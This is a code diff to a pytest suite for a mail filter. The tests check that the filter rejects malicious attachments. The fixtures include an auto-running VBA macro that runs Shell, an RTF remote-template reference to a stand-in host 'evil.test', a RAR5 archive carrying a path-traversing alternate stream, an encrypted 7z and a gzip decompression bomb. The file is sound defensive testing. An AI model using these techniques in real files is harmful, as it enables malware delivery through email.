@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from harness.archives import AES, PROGRAM, sevenzipped, tarred, vba_project, zipped
+from harness.archives import AES, PROGRAM, rar5, sevenzipped, tarred, vba_project, zipped
 from harness.daemon import Daemon
 from harness.postfix import PrivatePostfix, why_not
 
@@ -28,6 +28,7 @@ rules:
       when: {attachments.macro_autoexec: true}
       then: reject
       reply: "550 5.7.1 macros with {attachments.macro_keywords}"
+    - {id: fetches, when: {attachments.fetches: true}, then: reject, reply: "550 5.7.1 loads something"}
     - {id: unseen, when: {attachments: neutral}, then: reject, reply: "550 5.7.1 not looked at: {attachments.excess}"}
 """
 MACRO = b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n'
@@ -55,10 +56,12 @@ def send(postfix, name, content):
         ("big.zip", zipped(("a.bin", os.urandom(3 << 20)), ("b.pdf", PROGRAM)), (550, "program in 1 attachment")),
         ("big.bin", os.urandom(3 << 20), (250, "")),
         ("a.doc", vba_project(MACRO), (550, "macros with Shell")),
+        ("a.doc", b"{\\rtf1{\\*\\template \\u-65432?ttp://evil.test/a}}", (550, "loads something")),
+        ("a.rar", rar5((b"a", b"x", False, 0), streams=[(":..\\b.js", b"x")]), (550, "program in 1 attachment")),
         ("a.7z", sevenzipped(("a", b"x"), coder=AES), (550, "not looked at")),
         ("a.gz", gzip.compress(bytes(1 << 27), mtime=0), (550, "not looked at: ratio 100")),
     ],
-    ids=["text", "nested", "disguised", "spooled-zip", "spooled", "macros", "encrypted", "bomb"],
+    ids=["text", "nested", "disguised", "spooled-zip", "spooled", "macros", "template", "stream", "encrypted", "bomb"],
 )
 def test_what_is_attached_decides(postfix, name, content, reply):
     told = send(postfix, name, content)
